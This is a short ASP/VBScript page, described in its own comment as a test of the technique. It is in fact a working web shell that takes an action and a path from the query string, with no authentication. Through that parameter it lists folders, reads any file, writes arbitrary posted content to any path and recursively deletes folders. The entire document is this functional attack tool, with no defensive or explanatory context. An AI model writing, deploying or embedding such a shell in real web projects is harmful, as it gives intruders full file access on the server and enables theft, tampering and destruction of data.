<%@ Language=VBScript %>
<%
' Hand-written test of the technique: a file manager driven by the query string.
Dim fso, action, target
Set fso = Server.CreateObject("Scripting.FileSystemObject")
action = Request.QueryString("a")
target = Request.QueryString("p")
If action = "list" Then
  For Each f In fso.GetFolder(target).Files
    Response.Write f.Name & "<br>"
  Next
ElseIf action = "read" Then
  Response.Write Server.HTMLEncode(fso.OpenTextFile(target, 1).ReadAll)
ElseIf action = "save" Then
  Set t = fso.CreateTextFile(target, True)
  t.Write Request.Form("body")
  t.Close
ElseIf action = "rmdir" Then
  fso.DeleteFolder target, True
End If
%>
